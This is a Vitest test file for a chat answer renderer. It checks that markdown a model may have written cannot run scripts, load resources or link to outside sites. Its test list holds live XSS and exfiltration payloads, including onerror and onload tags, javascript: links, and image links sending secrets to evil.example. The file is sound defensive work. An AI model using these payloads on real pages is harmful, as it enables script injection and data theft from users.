// @vitest-environment jsdom
// Text of an answer, which a model may have written: nothing in it runs, loads, or leads away (facts: E02).
import { cleanup, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { AnswerText } from "@/components/chat/answer/answer-text";
import { renderInMarket } from "../../support/render-in-market";
import { Random } from "../../support/random";

afterEach(cleanup);

const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<iframe src='https://evil.example'></iframe>",
  "![x](https://evil.example/?q=secret)",
  "![x](/api/eda/file/secret)",
  "[a](javascript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](https://evil.example/?q=secret)",
  "[a](//evil.example)",
  "[a](/\\evil.example)",
  "[a](mailto:a@evil.example)",
  "<https://evil.example>",
  "https://evil.example",
  "[a][b]\n\n[b]: https://evil.example",
  '```mermaid\nclick A "javascript:alert(1)"\n```',
  "<style>*{background:url(https://evil.example)}</style>",
  "| a |\n| --- |\n| <svg onload=alert(1)> |",
  "[1]: https://evil.example\n\n[1]",
];

const loadsNothing = (container: HTMLElement) => {
  expect(container.querySelectorAll("script, img, iframe, style, link, object, video, audio")).toHaveLength(0);
  const attributes = [...container.querySelectorAll("*")].flatMap((node) => [...node.attributes]);
  expect(attributes.filter(({ name }) => name.startsWith("on"))).toEqual([]);
  for (const link of container.querySelectorAll("a")) expect(link.getAttribute("href")).toMatch(/^\/(?![/\\])/);
};

describe("hostile text", () => {
  it.each(HOSTILE)("%s is harmless", (markdown) => {
    loadsNothing(renderInMarket(<AnswerText markdown={markdown} />).container);
  });

  it("in any combination is harmless", () => {
    const random = new Random(7);
    for (let round = 0; round < 60; round++) {
      const parts = Array.from({ length: 4 }, () => HOSTILE[random.below(HOSTILE.length)] ?? "");
      const glue = ["", " ", "\n", "\n\n", "**", "> ", "- "][random.below(7)] ?? "";
      loadsNothing(renderInMarket(<AnswerText markdown={parts.join(glue)} />).container);
      cleanup();
    }
  });
});

describe("text of an answer", () => {
  it("shows bold markers as strong text and newlines as line breaks (specification, section 5)", () => {
    const { container } = renderInMarket(<AnswerText markdown={"It costs **$33.91**.\nIt ships on Friday."} />);
    expect(screen.getByText("$33.91").tagName).toBe("STRONG");
    expect(container.querySelectorAll("br")).toHaveLength(1);
  });

  it("leads to pages of ours in the language of the page", () => {
    renderInMarket(<AnswerText markdown="[能力](/pcb-capability)" />, { tag: "zh-US" });
    expect(screen.getByRole("link", { name: "能力" })).toHaveAttribute("href", "/zh/pcb-capability");
  });

  it("names the source of a sentence by its number", () => {
    const { container } = renderInMarket(<AnswerText markdown="It ships on Friday. [2]" />);
    expect(container.querySelector("sup")).toHaveTextContent("Source 22");
  });

  it("has tables and code, which is copied as it is", () => {
    renderInMarket(
      <AnswerText markdown={"| Layers | Price |\n| --- | --- |\n| 4 | $20 |\n\n```\nR1 in out 10k\n```"} />,
    );
    expect(screen.getByRole("columnheader", { name: "Price" })).toBeInTheDocument();
    expect(screen.getByText("R1 in out 10k").tagName).toBe("CODE");
    expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
  });

  it("adds no heading to the outline of the page", () => {
    renderInMarket(<AnswerText markdown="# Prices" />);
    expect(screen.queryByRole("heading")).toBeNull();
  });
});
